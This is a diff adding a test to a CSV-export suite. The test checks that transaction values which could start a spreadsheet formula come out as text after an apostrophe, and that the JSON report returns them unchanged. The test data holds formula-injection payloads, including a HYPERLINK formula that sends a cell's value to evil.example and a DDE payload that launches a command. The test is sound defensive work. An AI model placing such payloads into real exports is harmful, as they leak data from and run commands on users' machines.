@@ -376,6 +376,34 @@ describe('CSV export', () => {
     expect(row!.request_timestamp).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:30:00\.500-0[45]:00$/);
   });
 
+  it('writes a called path that could start a spreadsheet formula as text after an apostrophe; the JSON report returns it as called', async () => {
+    const payloads = ['=HYPERLINK("http://evil.example/?x="&A2,"Click")', '+1+1', '-2+3', '@SUM(1)', "=cmd|' /C calc'!A0", '\tSUM(1)'];
+    const c = await testCustomer(server, 'qa3@verigate-test.io', ['in_identity_pan_lite']);
+    for (const [index, payload] of payloads.entries()) {
+      await server.db.execute(sql`
+        insert into transactions (id, organisation_id, app_id, product_arn, product_version, env, task_id, group_id,
+          request_timestamp, response_timestamp, http_status, response_code, status, billable, client_ip, message)
+        values (gen_random_uuid(), ${c.orgId}::uuid, ${c.appId}::uuid, ${payload}, 'v1', 'TEST', gen_random_uuid(), gen_random_uuid(),
+          ${new Date(`${today}T00:10:0${index}+05:30`)}, ${new Date(`${today}T00:10:0${index}.2+05:30`)}, 404, 106, 'FAILURE', false, '203.0.113.9', 'formula')`);
+    }
+    await rebuild(c.orgId);
+    const params = { start_date: today, end_date: today, tz: IST };
+    for (const scope of ['all', 'page']) {
+      const reply = await server.app.inject({
+        method: 'GET',
+        url: `/api/organisation/${c.orgId}/usage-report.csv?${new URLSearchParams({ ...params, scope })}`,
+        headers: { authorization: `Bearer ${c.token}` },
+      });
+      const [, ...records] = parse(reply.body) as string[][];
+      expect(records).toHaveLength(payloads.length);
+      for (const cell of records.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+      expect(records.map((record) => record[1]).sort()).toEqual(payloads.map((payload) => `'${payload}`).sort());
+      expect(records.map((record) => record[5])).toEqual(payloads.map(() => '106'));
+    }
+    const json = await report(params, c);
+    expect(json.body.data.data.rows.map((row: ReportRow) => row.product).sort()).toEqual([...payloads].sort());
+  });
+
   it('reads the rows in keyset batches that join up exactly', async () => {
     const filter = { env: 'PRODUCTION' as const };
     const range = { from: new Date(`${addDays(today, -60)}T00:00:00+05:30`), to: new Date(`${addDays(today, 1)}T00:00:00+05:30`) };
